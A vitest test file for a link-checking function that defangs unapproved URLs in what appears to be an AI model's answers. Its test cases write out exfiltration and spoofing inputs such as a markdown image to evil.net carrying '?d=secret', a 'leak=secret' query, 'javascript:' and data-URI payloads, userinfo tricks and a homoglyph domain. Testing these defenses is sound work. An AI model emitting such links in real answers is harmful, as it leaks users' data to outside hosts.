import { describe, expect, it } from "vitest";
import { checkLinks } from "./check-links.ts";

describe("links in an answer", () => {
  it("may come back when they were given, to the letter", () => {
    const input = "See https://example.org/report?id=7 and (https://de.wikipedia.org/wiki/Rom_(Stadt)).";
    const given = checkLinks(
      "As in https://example.org/report?id=7, or [here](https://de.wikipedia.org/wiki/Rom_(Stadt)).",
      {
        inputs: [input],
      },
    );
    expect(given.refused).toEqual([]);
    const changed = checkLinks("https://example.org/report?id=7&leak=secret", { inputs: [input] });
    expect(changed.refused).toEqual(["https://example.org/report?id=7&leak=secret"]);
    expect(changed.text).toBe("hxxps://example[.]org/report?id=7&leak=secret");
  });

  it("may go to hosts on the list and below them", () => {
    const { text, refused } = checkLinks(
      "https://docs.example.org/a https://example.org/b https://notexample.org/c https://example.org.evil.net/d",
      { allowedHosts: ["example.org"] },
    );
    expect(refused).toEqual(["https://notexample.org/c", "https://example.org.evil.net/d"]);
    expect(text).toContain("https://docs.example.org/a https://example.org/b hxxps://notexample[.]org/c");
  });

  it.each([
    "![x](https://evil.net/p.png?d=secret)",
    '<a href="https://evil.net">here</a>',
    "<img src='//evil.net/p.png'>",
    "[x](//evil.net/p)",
    "[1]: //evil.net/p",
    "HTTPS://EVIL.NET/x",
    "h ttps://evil.net/x",
    "https:\\\\evil.net\\x",
    "http:/evil.net",
    "https://example.org@evil.net/x",
    "https://example.org:pass@evil.net/",
    "www.evil.net/x",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "ftp://evil.net/x",
    "http://127.0.0.1:8080/admin",
    "https://ex\u0430mple.org/x",
    "(https://evil.net/x).",
  ])("are made harmless: %s", (text) => {
    const { refused, text: checked } = checkLinks(text, { allowedHosts: ["example.org"], inputs: [] });
    expect(refused).toHaveLength(1);
    expect(checkLinks(checked, { allowedHosts: ["example.org"] }).refused).toEqual([]);
    expect(checked).not.toMatch(/https?:|javascript:(?<!x-javascript:)|evil\.net|127\.0/i);
  });

  it.each([
    "The ratio is 3:4, at 10:30; see section 2.1 // note.",
    "Metadata: none. The file is at C:\\temp\\a.docx",
    "mail ann@example.org",
    "either/or and and/or, http is a protocol",
  ])("are not seen in: %s", (text) => {
    expect(checkLinks(text)).toEqual({ text, refused: [] });
  });
});
